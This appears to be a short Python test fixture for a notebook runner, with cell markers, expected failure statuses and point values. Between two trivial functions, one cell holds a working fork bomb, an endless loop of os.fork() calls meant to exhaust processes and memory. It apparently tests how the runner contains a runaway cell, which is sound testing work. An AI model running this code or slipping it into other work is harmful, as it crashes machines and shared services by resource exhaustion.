"""Processes that start processes, until a limit ends the kernel or the cell."""

# status: too many processes | out of memory | killed its kernel | timed out
# points: 2 0 | 2 2

# %% T-f
def f(x):
    return 2 * x

# %% after T-first
import os

while True:
    try:
        os.fork()
    except OSError:
        pass

# %% T-g
def g(x):
    return x + 1
